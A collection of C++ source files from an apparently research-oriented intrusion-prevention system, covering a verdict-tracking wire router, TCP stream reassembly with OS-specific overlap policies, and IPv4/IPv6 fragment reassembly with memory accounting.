  /// pipe.drain(), then a final poll — after which every submitted packet
  /// must be accounted for. Throws util Error on a conservation breach or
  /// an unresolved hold entry (a lost verdict). Feeder thread.
  void finish();

  /// Fold capture-backend kernel drops into the ledger (outside the
  /// conservation sum — those packets were never captured). Feeder thread;
  /// pass deltas, not totals.
  void note_kernel_drops(std::uint64_t n);

  WireStats stats() const;
  std::size_t held() const { return hold_.size(); }
  const RouterConfig& config() const { return cfg_; }

  /// Register the wire.* metric surface (docs/OBSERVABILITY.md): the
  /// ledger counters, hold-depth gauges, and the verdict-latency
  /// histogram. All live-safe.
  void register_metrics(telemetry::MetricsRegistry& reg,
                        const std::string& prefix = "wire") const;

  /// Latency from submit to verdict release (accept/drop/divert only —
  /// sheds are excluded so the budget cap does not masquerade as engine
  /// speed).
  telemetry::HistogramSnapshot verdict_latency_ns() const {
    return verdict_latency_ns_.snapshot();
  }

  // --- runtime::WireStatsSource (any thread) ---
  runtime::WireDropBreakdown wire_drops() const override;

  // --- runtime::VerdictFeedback (lane / dispatcher threads) ---
  void on_verdict(std::size_t lane, std::uint64_t ticket,
                  core::Action action) override;
  void on_reject(std::uint64_t ticket) override;
  void on_shed(std::uint64_t ticket) override;

 private:
  /// How a held packet got resolved (reject/overload arrive as edge
  /// events; budget expiry is decided locally at the deque front).
  enum class Resolution : std::uint8_t {
    pending,
    accept,
    drop,
    divert,
    reject,    // malformed at the dispatch edge
    overload,  // runtime shed it before any engine looked
  };

  struct Held {
    std::uint64_t ticket = 0;
    std::uint64_t submit_ns = 0;
    std::uint64_t deadline_ns = 0;
    Resolution res = Resolution::pending;
    net::Packet pkt;
  };

  struct VerdictMsg {
    std::uint64_t ticket = 0;
    Resolution res = Resolution::pending;
  };

  std::uint64_t clock_ns() const;
  void resolve(std::uint64_t ticket, Resolution res);
  std::size_t release_front(std::uint64_t now);
  void emit_shed(const net::Packet& pkt);
  void update_held_gauges();

  InlinePipe& pipe_;
  VerdictSink& sink_;
  RouterConfig cfg_;
  std::uint64_t budget_ns_;
  std::uint64_t next_ticket_ = 0;

  /// Ticket-sorted (submission order) hold buffer. Front gates release.
  std::deque<Held> hold_;
  /// Tickets shed from the hold whose verdict is still owed by the pipe;
  /// the arriving verdict is absorbed (late_verdicts) instead of
  /// re-counted. Empty after finish() or a verdict was lost.
  std::unordered_set<std::uint64_t> late_pending_;

  /// Lane thread → feeder thread, lock-free. Sized so steady-state pushes
  /// cannot fill it; the edge-event mutex is the overflow fallback.
  std::vector<std::unique_ptr<runtime::SpscRing<VerdictMsg>>> rings_;

  /// Rare out-of-band events (parse rejects, runtime sheds, verdict-ring
  /// overflow fallback) from any producer thread.
  std::mutex edge_mu_;
  std::vector<VerdictMsg> edge_events_;
  std::vector<VerdictMsg> edge_scratch_;  // feeder-side swap target

  // Ledger. Atomics so registered metrics and wire_drops() are live-safe;
  // written by the feeder thread only.
  std::atomic<std::uint64_t> captured_{0};
  std::atomic<std::uint64_t> accepted_{0};
  std::atomic<std::uint64_t> dropped_{0};
  std::atomic<std::uint64_t> diverted_{0};
  std::atomic<std::uint64_t> shed_{0};
  std::atomic<std::uint64_t> budget_expired_{0};
  std::atomic<std::uint64_t> hold_overflow_{0};
  std::atomic<std::uint64_t> overload_shed_{0};
  std::atomic<std::uint64_t> rejected_malformed_{0};
  std::atomic<std::uint64_t> kernel_dropped_{0};
  std::atomic<std::uint64_t> late_verdicts_{0};
  std::atomic<std::uint64_t> held_depth_{0};
  std::atomic<std::uint64_t> held_peak_{0};

  telemetry::LogHistogram verdict_latency_ns_;
};

}  // namespace sdt::wire
