#include "reassembly/tcp_reassembler.hpp"

#include <cstring>

namespace sdt::reassembly {

namespace {
constexpr std::size_t kMapNodeOverhead = 48;
}

const char* to_string(TcpOverlapPolicy p) {
  switch (p) {
    case TcpOverlapPolicy::first:
      return "first";
    case TcpOverlapPolicy::last:
      return "last";
    case TcpOverlapPolicy::bsd:
      return "bsd";
    case TcpOverlapPolicy::linux_:
      return "linux";
    case TcpOverlapPolicy::windows:
      return "windows";
    case TcpOverlapPolicy::solaris:
      return "solaris";
  }
  return "unknown";
}

TcpReassembler::TcpReassembler(TcpReassemblerConfig cfg) : cfg_(cfg) {}

std::uint64_t TcpReassembler::unwrap(std::uint32_t seq) {
  const std::int32_t d = net::seq_diff(seq, anchor_seq_);
  const std::uint64_t off = anchor_off_ + static_cast<std::uint64_t>(
                                              static_cast<std::int64_t>(d));
  // Advance the anchor to the highest offset seen so the 32-bit window
  // tracks the stream head.
  if (static_cast<std::int64_t>(off - anchor_off_) > 0) {
    anchor_off_ = off;
    anchor_seq_ = seq;
  }
  return off;
}

SegmentEvent TcpReassembler::add(std::uint32_t seq, ByteView payload,
                                 bool syn, bool fin) {
  SegmentEvent ev;

  if (!started_) {
    started_ = true;
    // Data begins one past the SYN, at the SYN segment's seq+1; for a
    // mid-stream capture, at the first segment's seq.
    anchor_seq_ = syn ? seq + 1 : seq;
    anchor_off_ = 0;
    next_emit_ = 0;
  }

  std::uint64_t off = unwrap(syn ? seq + 1 : seq);

  // A segment can unwrap to before stream offset 0 (data preceding the
  // first segment of a mid-stream capture). Clip those bytes away.
  if (static_cast<std::int64_t>(off) < 0) {
    const std::uint64_t before = 0 - off;
    if (before >= payload.size()) {
      ev.accepted = true;
      ev.retransmission = true;
      return ev;
    }
    payload = payload.subspan(static_cast<std::size_t>(before));
    off = 0;
    ev.retransmission = true;
  }

  if (fin) {
    saw_fin_ = true;
    fin_offset_ = off + payload.size();
  }
  if (payload.empty()) {
    ev.accepted = true;
    return ev;
  }

  std::uint64_t begin = off;
  std::uint64_t end = off + payload.size();
  ByteView data = payload;

  // Clip data already delivered: that part is by definition a
  // retransmission (possibly a conflicting one, but those bytes are gone —
  // a conventional IPS has already acted on them).
  if (begin < next_emit_) {
    ev.retransmission = true;
    const std::uint64_t skip = std::min(next_emit_ - begin, static_cast<std::uint64_t>(data.size()));
    data = data.subspan(static_cast<std::size_t>(skip));
    begin += skip;
    if (data.empty()) {
      ev.accepted = true;
      return ev;
    }
  }

  if (begin > next_emit_) ev.out_of_order = true;

  if (buffered_ + data.size() > cfg_.max_buffered_bytes) {
    ev.dropped_overflow = true;
    return ev;
  }

  insert_piece(begin, data, off, ev);
  (void)end;
  ev.accepted = true;
  return ev;
}

bool TcpReassembler::new_wins(std::uint64_t new_orig_start,
                              std::uint64_t new_end, const Chunk& o,
                              std::uint64_t o_start) const {
  const std::uint64_t o_end = o_start + o.data.size();
  switch (cfg_.policy) {
    case TcpOverlapPolicy::first:
      return false;
    case TcpOverlapPolicy::last:
      return true;
    case TcpOverlapPolicy::bsd:
      return new_orig_start < o.orig_start;
    case TcpOverlapPolicy::linux_:
      return new_orig_start <= o.orig_start;
    case TcpOverlapPolicy::windows:
      return new_orig_start < o.orig_start && new_end >= o_end;
    case TcpOverlapPolicy::solaris:
      return new_end > o_end;
  }
  return false;
}

void TcpReassembler::insert_piece(std::uint64_t start, ByteView data,
                                  std::uint64_t orig_start, SegmentEvent& ev) {
  std::uint64_t begin = start;
  const std::uint64_t end = start + data.size();

  auto it = chunks_.lower_bound(begin);
  if (it != chunks_.begin()) {
    auto prev = std::prev(it);
    if (prev->first + prev->second.data.size() > begin) it = prev;
  }

  // Remaining incoming bytes always span [begin, end); `data` is re-sliced
  // as the front is consumed.
  auto advance_to = [&](std::uint64_t new_begin) {
    data = data.subspan(static_cast<std::size_t>(new_begin - begin));
    begin = new_begin;
  };

  while (it != chunks_.end() && it->first < end && !data.empty()) {
    const std::uint64_t c_begin = it->first;
    Chunk& c = it->second;
    const std::uint64_t c_end = c_begin + c.data.size();
    if (c_end <= begin) {
      ++it;
      continue;
    }

    ev.overlap = true;

    // Compare overlapping bytes to detect inconsistent retransmission.
    const std::uint64_t ov_begin = std::max(begin, c_begin);
    const std::uint64_t ov_end = std::min(end, c_end);
    const std::size_t ov_len = static_cast<std::size_t>(ov_end - ov_begin);
    const std::uint8_t* new_p =
        data.data() + static_cast<std::size_t>(ov_begin - begin);
    const std::uint8_t* old_p =
        c.data.data() + static_cast<std::size_t>(ov_begin - c_begin);
    if (std::memcmp(new_p, old_p, ov_len) != 0) {
      ev.conflicting_overlap = true;
      conflicting_bytes_ += ov_len;
    }

    if (new_wins(orig_start, end, c, c_begin)) {
      // Trim / split the old chunk around the incoming range.
      if (c_begin < begin) {
        // Keep old prefix [c_begin, begin); re-key the remainder handled below.
        const std::size_t keep = static_cast<std::size_t>(begin - c_begin);
        Bytes tail;
        if (c_end > end) {
          tail.assign(c.data.begin() + static_cast<std::ptrdiff_t>(end - c_begin),
                      c.data.end());
        }
        buffered_ -= c.data.size() - keep;
        c.data.resize(keep);
        if (!tail.empty()) {
          buffered_ += tail.size();
          const std::uint64_t tail_orig = c.orig_start;
          it = chunks_.emplace(end, Chunk{std::move(tail), tail_orig}).first;
        } else {
          ++it;
        }
      } else if (c_end > end) {
        // Keep old suffix [end, c_end).
        Bytes tail(c.data.begin() + static_cast<std::ptrdiff_t>(end - c_begin),
                   c.data.end());
        const std::uint64_t tail_orig = c.orig_start;
        buffered_ -= static_cast<std::size_t>(end - c_begin);
        chunks_.erase(it);
        it = chunks_.emplace(end, Chunk{std::move(tail), tail_orig}).first;
      } else {
        // Old chunk fully covered: drop it.
        buffered_ -= c.data.size();
        it = chunks_.erase(it);
      }
    } else {
      // Old bytes win: emit the incoming prefix before the old chunk, then
      // skip past it.
      if (c_begin > begin) {
        const std::size_t n = static_cast<std::size_t>(c_begin - begin);
        buffered_ += n;
        chunks_.emplace(begin,
                        Chunk{Bytes(data.begin(),
                                    data.begin() + static_cast<std::ptrdiff_t>(n)),
                              orig_start});
      }
      if (c_end >= end) return;  // rest of incoming fully covered
      advance_to(c_end);
      ++it;
    }
  }

  if (!data.empty()) {
    buffered_ += data.size();
    chunks_.emplace(begin, Chunk{Bytes(data.begin(), data.end()), orig_start});
  }
}

Bytes TcpReassembler::read_available() {
  Bytes out;
  auto it = chunks_.begin();
  while (it != chunks_.end() && it->first == next_emit_) {
    out.insert(out.end(), it->second.data.begin(), it->second.data.end());
    next_emit_ += it->second.data.size();
    buffered_ -= it->second.data.size();
    it = chunks_.erase(it);
  }
  return out;
}

std::size_t TcpReassembler::memory_bytes() const {
  std::size_t n = sizeof(*this);
  for (const auto& [off, c] : chunks_) {
    (void)off;
    n += c.data.capacity() + sizeof(Chunk) + kMapNodeOverhead;
  }
  return n;
}

}  // namespace sdt::reassembly
