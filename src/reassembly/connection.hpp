// Per-connection TCP reassembly: one TcpReassembler per direction plus the
// connection-level bookkeeping a conventional IPS keeps for every flow.
#pragma once

#include "flow/flow_key.hpp"
#include "net/headers.hpp"
#include "reassembly/tcp_reassembler.hpp"

namespace sdt::reassembly {

/// Both directions of one TCP connection. This struct *is* the per-flow
/// state of the conventional IPS; its memory_bytes() is what the E2
/// experiment weighs against the fast path's 16-byte record.
class TcpConnection {
 public:
  explicit TcpConnection(TcpReassemblerConfig cfg = {})
      : dirs_{TcpReassembler(cfg), TcpReassembler(cfg)} {}

  TcpConnection(const TcpConnection&) = default;
  TcpConnection& operator=(const TcpConnection&) = default;
  TcpConnection(TcpConnection&&) = default;
  TcpConnection& operator=(TcpConnection&&) = default;

  /// Feed a segment travelling in direction `dir`.
  SegmentEvent deliver(flow::Direction dir, const net::TcpView& tcp,
                       ByteView payload) {
    if (tcp.rst()) closed_ = true;
    return side(dir).add(tcp.seq(), payload, tcp.syn(), tcp.fin());
  }

  TcpReassembler& side(flow::Direction dir) {
    return dirs_[static_cast<std::size_t>(dir)];
  }
  const TcpReassembler& side(flow::Direction dir) const {
    return dirs_[static_cast<std::size_t>(dir)];
  }

  bool closed() const {
    return closed_ || (dirs_[0].stream_complete() && dirs_[1].stream_complete());
  }

  std::size_t memory_bytes() const {
    return sizeof(*this) - 2 * sizeof(TcpReassembler) +
           dirs_[0].memory_bytes() + dirs_[1].memory_bytes();
  }

 private:
  TcpReassembler dirs_[2];
  bool closed_ = false;
};

}  // namespace sdt::reassembly
