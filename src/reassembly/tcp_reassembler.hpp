// Single-direction TCP stream reassembly with target-based overlap policies.
//
// This is the stateful machinery the paper argues a >10 Gbps fast path
// cannot afford: per-flow segment buffers, ordered chunk maps, and
// policy-dependent conflict resolution. It serves three roles here:
//   1. substrate of the conventional-IPS baseline (and Split-Detect's slow
//      path),
//   2. the memory yardstick for the E2 state experiment,
//   3. the demonstrator for E9 (the same hostile segment sequence yields
//      different byte streams under different policies — the root
//      Ptacek-Newsham ambiguity).
//
// The six policies implement the well-known *behaviour classes* of overlap
// resolution (first/BSD/Linux/Windows/Solaris/last). They are faithful to
// the published target-based reassembly classification at the granularity
// of "which segment wins an overlapping byte range given their starting
// points", which is the property the evasion experiments exercise.
#pragma once

#include <cstdint>
#include <map>
#include <string>

#include "net/seq.hpp"
#include "util/bytes.hpp"

namespace sdt::reassembly {

enum class TcpOverlapPolicy : std::uint8_t {
  first,    // existing bytes always win
  last,     // newest bytes always win
  bsd,      // new wins only where the new segment starts strictly earlier
  linux_,   // new wins where the new segment starts earlier or at the same seq
  windows,  // new wins only when it starts earlier AND covers the old chunk
  solaris,  // new wins when it extends past the old chunk's end
};

const char* to_string(TcpOverlapPolicy p);

struct TcpReassemblerConfig {
  TcpOverlapPolicy policy = TcpOverlapPolicy::bsd;
  /// Cap on buffered out-of-order bytes per direction (conventional IPS
  /// memory guard; segments past the cap are dropped and counted).
  std::size_t max_buffered_bytes = 1 << 20;
};

/// What the reassembler observed about one incoming segment. These are the
/// signals a normalizing IPS alerts on, and the ground truth the fast-path
/// anomaly detectors approximate.
struct SegmentEvent {
  bool accepted = false;
  bool out_of_order = false;        // created or extended a hole
  bool retransmission = false;      // overlapped already-delivered data
  bool overlap = false;             // overlapped buffered data
  bool conflicting_overlap = false; // overlapped with *different* bytes
  bool dropped_overflow = false;    // rejected by the buffer cap
};

/// Reassembles one direction of one TCP connection into an in-order byte
/// stream. Sequence numbers are unwrapped internally to 64-bit stream
/// offsets, so multi-gigabyte streams and seq wraparound are handled.
class TcpReassembler {
 public:
  explicit TcpReassembler(TcpReassemblerConfig cfg = {});

  /// Feed one segment. `syn`/`fin` describe the segment's flags (SYN and FIN
  /// each occupy one sequence number).
  SegmentEvent add(std::uint32_t seq, ByteView payload, bool syn, bool fin);

  /// Pin stream offset 0 to sequence number `seq` before any segment is
  /// fed. Used by mid-stream takeover: the fast path hands over its
  /// expected-next sequence number, so bytes it already forwarded unwrap to
  /// negative offsets and are clipped as already-delivered.
  void set_base(std::uint32_t seq) {
    started_ = true;
    anchor_seq_ = seq;
    anchor_off_ = 0;
    next_emit_ = 0;
  }

  /// True once the stream origin is pinned (by set_base or a first segment).
  bool started() const { return started_; }

  /// Contiguous bytes now available in order. Consumes them.
  Bytes read_available();

  /// Stream offset of the next byte read_available() will deliver.
  std::uint64_t next_emit_offset() const { return next_emit_; }

  /// True once FIN's position has been reached by delivery.
  bool stream_complete() const { return saw_fin_ && next_emit_ >= fin_offset_; }
  bool saw_fin() const { return saw_fin_; }

  std::size_t buffered_bytes() const { return buffered_; }
  std::size_t buffered_chunks() const { return chunks_.size(); }

  /// Heap footprint of this direction's reassembly state.
  std::size_t memory_bytes() const;

  std::uint64_t conflicting_bytes() const { return conflicting_bytes_; }

 private:
  struct Chunk {
    Bytes data;
    std::uint64_t orig_start;  // stream offset where the carrying segment began
  };

  /// Map incoming 32-bit seq to a 64-bit stream offset near the last seen.
  std::uint64_t unwrap(std::uint32_t seq);

  /// Should the new segment's bytes win over chunk `o` for their overlap?
  bool new_wins(std::uint64_t new_orig_start, std::uint64_t new_end,
                const Chunk& o, std::uint64_t o_start) const;

  void insert_piece(std::uint64_t start, ByteView data,
                    std::uint64_t orig_start, SegmentEvent& ev);

  TcpReassemblerConfig cfg_;
  bool started_ = false;
  std::uint32_t anchor_seq_ = 0;   // 32-bit seq corresponding to anchor_off_
  std::uint64_t anchor_off_ = 0;
  std::uint64_t next_emit_ = 0;
  bool saw_fin_ = false;
  std::uint64_t fin_offset_ = 0;
  std::size_t buffered_ = 0;
  std::uint64_t conflicting_bytes_ = 0;
  // Non-overlapping buffered chunks keyed by current start offset.
  std::map<std::uint64_t, Chunk> chunks_;
};

}  // namespace sdt::reassembly
