// IPv4 datagram defragmentation with selectable overlap policy.
//
// Overlapping fragments are the oldest Ptacek-Newsham ambiguity: different
// receiving stacks keep different bytes, so an IPS that resolves overlaps
// differently from the protected host is blind. The policy enum makes the
// choice explicit; the conventional-IPS slow path defragments with the
// policy of the protected target.
#pragma once

#include <cstdint>
#include <map>
#include <optional>

#include "flow/flow_table.hpp"
#include "net/packet.hpp"
#include "util/bytes.hpp"

namespace sdt::reassembly {

enum class IpOverlapPolicy : std::uint8_t {
  first,  // bytes received first win (BSD-right / Windows behaviour class)
  last,   // bytes received last win (Cisco IOS / some Linux behaviour class)
};

struct IpDefragConfig {
  IpOverlapPolicy policy = IpOverlapPolicy::first;
  std::size_t max_pending_datagrams = 4096;
  std::size_t max_datagram_bytes = 65535;
  std::uint64_t timeout_usec = 30ull * 1000 * 1000;
};

struct IpDefragStats {
  std::uint64_t fragments_in = 0;
  std::uint64_t datagrams_out = 0;
  std::uint64_t overlaps = 0;
  std::uint64_t timeouts = 0;
  std::uint64_t dropped_oversize = 0;
  std::uint64_t dropped_table_full = 0;
};

/// Reassembles IPv4 fragments into whole datagrams.
class IpDefragmenter {
 public:
  explicit IpDefragmenter(IpDefragConfig cfg = {});

  /// Feed one fragment (pv.is_fragment() must be true). Returns the rebuilt
  /// whole datagram (fresh IPv4 header, MF=0, offset=0) once the last hole
  /// closes, otherwise nullopt.
  std::optional<Bytes> add(const net::PacketView& pv, std::uint64_t now_usec);

  /// Drop reassembly contexts older than the timeout. Returns count dropped.
  std::size_t expire(std::uint64_t now_usec);

  const IpDefragStats& stats() const { return stats_; }
  std::size_t pending() const { return table_.size(); }
  /// Bytes held across all partial datagrams (buffers + table).
  std::size_t memory_bytes() const;

 private:
  struct Pending {
    // Byte-ranges received so far: offset -> chunk (non-overlapping).
    std::map<std::size_t, Bytes> chunks;
    std::size_t total_len = 0;  // known once the MF=0 fragment arrives, else 0
    std::size_t byte_count = 0;
    bool have_last = false;
    // A template of the first fragment's header for rebuilding.
    Bytes header;
  };

  void insert_chunk(Pending& p, std::size_t off, ByteView data);
  static bool complete(const Pending& p);
  Bytes assemble(Pending& p) const;

  IpDefragConfig cfg_;
  IpDefragStats stats_;
  flow::FlowTable<Pending> table_;
};

}  // namespace sdt::reassembly
