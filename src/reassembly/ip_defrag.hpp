// IP datagram defragmentation (IPv4 headers and IPv6 fragment extension
// headers) with selectable overlap policy.
//
// Overlapping fragments are the oldest Ptacek-Newsham ambiguity: different
// receiving stacks keep different bytes, so an IPS that resolves overlaps
// differently from the protected host is blind. The policy enum makes the
// choice explicit; the conventional-IPS slow path defragments with the
// policy of the protected target.
//
// Both versions reduce to the same generic model via PacketView's frag_*
// fields: a reassembly key (addresses, fragment id, payload protocol), a
// header template (the unfragmentable part), and offset/MF-driven chunk
// assembly. Only assemble() differs: v4 patches total-length/flags/checksum,
// v6 patches payload-length and the next-header byte that pointed at the
// fragment header.
#pragma once

#include <cstdint>
#include <map>
#include <optional>

#include "flow/flow_table.hpp"
#include "net/packet.hpp"
#include "util/bytes.hpp"

namespace sdt::reassembly {

enum class IpOverlapPolicy : std::uint8_t {
  first,  // bytes received first win (BSD-right / Windows behaviour class)
  last,   // bytes received last win (Cisco IOS / some Linux behaviour class)
};

struct IpDefragConfig {
  IpOverlapPolicy policy = IpOverlapPolicy::first;
  std::size_t max_pending_datagrams = 4096;
  std::size_t max_datagram_bytes = 65535;
  std::uint64_t timeout_usec = 30ull * 1000 * 1000;
};

struct IpDefragStats {
  std::uint64_t fragments_in = 0;
  std::uint64_t datagrams_out = 0;
  std::uint64_t overlaps = 0;
  std::uint64_t timeouts = 0;
  std::uint64_t dropped_oversize = 0;
  std::uint64_t dropped_table_full = 0;
};

/// Reassembles IPv4 and IPv6 fragments into whole datagrams.
class IpDefragmenter {
 public:
  explicit IpDefragmenter(IpDefragConfig cfg = {});

  /// Feed one fragment (pv.is_fragment() must be true). Returns the rebuilt
  /// whole datagram once the last hole closes, otherwise nullopt. For v4 the
  /// rebuilt header has MF=0, offset=0 and a fresh checksum; for v6 the
  /// fragment extension header is gone (next-header re-linked, payload
  /// length patched) — in both cases parse_l3() accepts the result.
  std::optional<Bytes> add(const net::PacketView& pv, std::uint64_t now_usec);

  /// Drop reassembly contexts older than the timeout. Returns count dropped.
  std::size_t expire(std::uint64_t now_usec);

  const IpDefragStats& stats() const { return stats_; }
  std::size_t pending() const { return table_.size(); }
  /// Bytes held across all partial datagrams (buffers + table).
  std::size_t memory_bytes() const;

 private:
  struct Pending {
    // Byte-ranges received so far: offset -> chunk (non-overlapping).
    std::map<std::size_t, Bytes> chunks;
    std::size_t total_len = 0;  // known once the MF=0 fragment arrives, else 0
    std::size_t byte_count = 0;
    bool have_last = false;
    // The unfragmentable part of the first fragment (v4: IP header; v6: base
    // header + any ext headers before the fragment header), the rebuild
    // template.
    Bytes header;
    // v6 only: offset in `header` of the next-header byte to re-link to
    // `proto`; net::kNoNhOff marks a v4 context.
    std::uint16_t nh_off = net::kNoNhOff;
    std::uint8_t proto = 0;  // payload protocol of the whole datagram
  };

  void insert_chunk(Pending& p, std::size_t off, ByteView data);
  static bool complete(const Pending& p);
  Bytes assemble(Pending& p) const;

  IpDefragConfig cfg_;
  IpDefragStats stats_;
  flow::FlowTable<Pending> table_;
};

}  // namespace sdt::reassembly
