#include "reassembly/ip_defrag.hpp"

#include "net/builder.hpp"
#include "net/checksum.hpp"
#include "net/headers.hpp"

namespace sdt::reassembly {

namespace {

/// Defrag contexts are keyed by (src, dst, proto, IP id). We pack that into
/// a FlowKey directly (no canonicalization — fragments are directional).
flow::FlowKey defrag_key(const net::Ipv4View& ip) {
  flow::FlowKey k;
  k.a_ip = ip.src();
  k.b_ip = ip.dst();
  k.a_port = ip.id();
  k.b_port = 0;
  k.proto = ip.protocol();
  return k;
}

/// Estimated heap cost of one std::map node beyond the payload itself.
constexpr std::size_t kMapNodeOverhead = 48;

}  // namespace

IpDefragmenter::IpDefragmenter(IpDefragConfig cfg)
    : cfg_(cfg), table_({cfg.max_pending_datagrams}) {}

std::optional<Bytes> IpDefragmenter::add(const net::PacketView& pv,
                                         std::uint64_t now_usec) {
  if (!pv.has_ipv4 || !pv.ipv4.is_fragment()) return std::nullopt;
  ++stats_.fragments_in;

  const net::Ipv4View& ip = pv.ipv4;
  const std::size_t off = ip.fragment_offset();
  const ByteView data = pv.ip_datagram.subspan(ip.header_len());

  if (off + data.size() > cfg_.max_datagram_bytes) {
    ++stats_.dropped_oversize;
    return std::nullopt;
  }

  const bool at_capacity = table_.size() >= cfg_.max_pending_datagrams;
  bool created = false;
  Pending& p = table_.get_or_create(defrag_key(ip), now_usec, &created);
  if (created && at_capacity) ++stats_.dropped_table_full;  // evicted an LRU

  // Keep the offset-zero fragment's header as the rebuild template (fall
  // back to whichever header arrived first).
  if (p.header.empty() || off == 0) {
    ByteView h = pv.ip_datagram.subspan(0, ip.header_len());
    p.header.assign(h.begin(), h.end());
  }

  if (!ip.more_fragments()) {
    const std::size_t end = off + data.size();
    if (!p.have_last || cfg_.policy == IpOverlapPolicy::last) {
      p.total_len = end;
    }
    p.have_last = true;
  }

  insert_chunk(p, off, data);

  if (complete(p)) {
    Bytes out = assemble(p);
    table_.erase(defrag_key(ip));
    ++stats_.datagrams_out;
    return out;
  }
  return std::nullopt;
}

void IpDefragmenter::insert_chunk(Pending& p, std::size_t off, ByteView data) {
  if (data.empty()) return;
  std::size_t begin = off;
  std::size_t end = off + data.size();

  // Find chunks intersecting [begin, end).
  auto it = p.chunks.lower_bound(begin);
  if (it != p.chunks.begin()) {
    auto prev = std::prev(it);
    if (prev->first + prev->second.size() > begin) it = prev;
  }

  Bytes incoming(data.begin(), data.end());

  while (it != p.chunks.end() && it->first < end) {
    const std::size_t c_begin = it->first;
    const std::size_t c_end = c_begin + it->second.size();
    if (c_end <= begin) {
      ++it;
      continue;
    }
    ++stats_.overlaps;
    if (cfg_.policy == IpOverlapPolicy::first) {
      // Existing bytes win: carve the incoming range around this chunk.
      if (c_begin <= begin && c_end >= end) return;  // fully covered
      if (c_begin > begin) {
        // Insert the non-overlapped prefix, then continue after the chunk.
        const std::size_t n = c_begin - begin;
        Bytes prefix(incoming.begin(), incoming.begin() + static_cast<std::ptrdiff_t>(n));
        p.byte_count += prefix.size();
        p.chunks.emplace(begin, std::move(prefix));
      }
      if (c_end >= end) return;
      incoming.erase(incoming.begin(),
                     incoming.begin() + static_cast<std::ptrdiff_t>(c_end - begin));
      begin = c_end;
      ++it;
    } else {
      // Incoming bytes win: trim or split the existing chunk.
      if (c_begin < begin) {
        const std::size_t keep = begin - c_begin;
        Bytes tail;
        if (c_end > end) {
          tail.assign(it->second.begin() + static_cast<std::ptrdiff_t>(end - c_begin),
                      it->second.end());
        }
        p.byte_count -= it->second.size() - keep;
        it->second.resize(keep);
        if (!tail.empty()) {
          p.byte_count += tail.size();
          p.chunks.emplace(end, std::move(tail));
        }
        ++it;
      } else if (c_end > end) {
        // Keep only the suffix beyond the incoming range.
        Bytes tail(it->second.begin() + static_cast<std::ptrdiff_t>(end - c_begin),
                   it->second.end());
        p.byte_count -= end - c_begin;
        p.chunks.erase(it);
        p.chunks.emplace(end, std::move(tail));
        break;  // nothing past `end` can intersect
      } else {
        // Fully covered by incoming: drop it.
        p.byte_count -= it->second.size();
        it = p.chunks.erase(it);
      }
    }
  }

  if (!incoming.empty()) {
    p.byte_count += incoming.size();
    p.chunks.emplace(begin, std::move(incoming));
  }
}

bool IpDefragmenter::complete(const Pending& p) {
  if (!p.have_last || p.total_len == 0) return false;
  std::size_t expect = 0;
  for (const auto& [off, chunk] : p.chunks) {
    if (off > expect) return false;
    expect = std::max(expect, off + chunk.size());
    if (expect >= p.total_len) return true;
  }
  return expect >= p.total_len;
}

Bytes IpDefragmenter::assemble(Pending& p) const {
  // Rebuild: header template with fragmentation cleared + payload bytes.
  Bytes header = p.header;
  const std::size_t ihl = static_cast<std::size_t>(header[0] & 0xf) * 4;
  const std::size_t total = ihl + p.total_len;
  wr_u16be(header, 2, static_cast<std::uint16_t>(total));
  // Clear MF and offset, keep DF.
  const std::uint16_t ff = rd_u16be(header, 6);
  wr_u16be(header, 6, static_cast<std::uint16_t>(ff & net::kIpFlagDf));
  wr_u16be(header, 10, 0);
  const std::uint16_t csum = net::checksum(ByteView(header.data(), ihl));
  wr_u16be(header, 10, csum);

  Bytes out;
  out.reserve(total);
  out.insert(out.end(), header.begin(), header.end());
  std::size_t copied = 0;
  for (const auto& [off, chunk] : p.chunks) {
    if (off >= p.total_len) break;
    // Chunks are non-overlapping and contiguous through total_len; trim any
    // bytes past the declared end.
    const std::size_t take = std::min(chunk.size(), p.total_len - off);
    out.insert(out.end(), chunk.begin(),
               chunk.begin() + static_cast<std::ptrdiff_t>(take));
    copied += take;
    if (copied >= p.total_len) break;
  }
  return out;
}

std::size_t IpDefragmenter::expire(std::uint64_t now_usec) {
  return table_.expire_idle(now_usec, cfg_.timeout_usec);
}

std::size_t IpDefragmenter::memory_bytes() const {
  std::size_t n = table_.memory_bytes();
  table_.for_each([&n](const flow::FlowKey&, const Pending& p) {
    n += p.header.capacity();
    for (const auto& [off, chunk] : p.chunks) {
      (void)off;
      n += chunk.capacity() + kMapNodeOverhead;
    }
  });
  return n;
}

}  // namespace sdt::reassembly
