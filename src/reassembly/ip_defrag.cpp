#include "reassembly/ip_defrag.hpp"

#include "net/builder.hpp"
#include "net/checksum.hpp"
#include "net/headers.hpp"

namespace sdt::reassembly {

namespace {

/// Defrag contexts are keyed by (src, dst, proto, fragment id). We pack that
/// into a FlowKey directly (no canonicalization — fragments are directional).
/// The v6 fragment id is 32 bits, so it spans both port slots.
flow::FlowKey defrag_key(const net::PacketView& pv) {
  flow::FlowKey k;
  k.a_ip = pv.src_ip();
  k.b_ip = pv.dst_ip();
  k.a_port = static_cast<std::uint16_t>(pv.frag_id >> 16);
  k.b_port = static_cast<std::uint16_t>(pv.frag_id & 0xffff);
  k.proto = pv.frag_proto;
  return k;
}

/// Estimated heap cost of one std::map node beyond the payload itself.
constexpr std::size_t kMapNodeOverhead = 48;

}  // namespace

IpDefragmenter::IpDefragmenter(IpDefragConfig cfg)
    : cfg_(cfg), table_({cfg.max_pending_datagrams}) {}

std::optional<Bytes> IpDefragmenter::add(const net::PacketView& pv,
                                         std::uint64_t now_usec) {
  if (!pv.is_fragment()) return std::nullopt;
  ++stats_.fragments_in;

  const std::size_t off = pv.frag_offset;
  const ByteView data = pv.frag_payload;

  if (off + data.size() > cfg_.max_datagram_bytes) {
    ++stats_.dropped_oversize;
    return std::nullopt;
  }

  const bool at_capacity = table_.size() >= cfg_.max_pending_datagrams;
  bool created = false;
  Pending& p = table_.get_or_create(defrag_key(pv), now_usec, &created);
  if (created && at_capacity) ++stats_.dropped_table_full;  // evicted an LRU

  // Keep the offset-zero fragment's unfragmentable part as the rebuild
  // template (fall back to whichever header arrived first).
  if (p.header.empty() || off == 0) {
    p.header.assign(pv.frag_head.begin(), pv.frag_head.end());
    p.nh_off = pv.frag_nh_off;
    p.proto = pv.frag_proto;
  }

  if (!pv.frag_more) {
    const std::size_t end = off + data.size();
    if (!p.have_last || cfg_.policy == IpOverlapPolicy::last) {
      p.total_len = end;
    }
    p.have_last = true;
  }

  insert_chunk(p, off, data);

  if (complete(p)) {
    Bytes out = assemble(p);
    table_.erase(defrag_key(pv));
    ++stats_.datagrams_out;
    return out;
  }
  return std::nullopt;
}

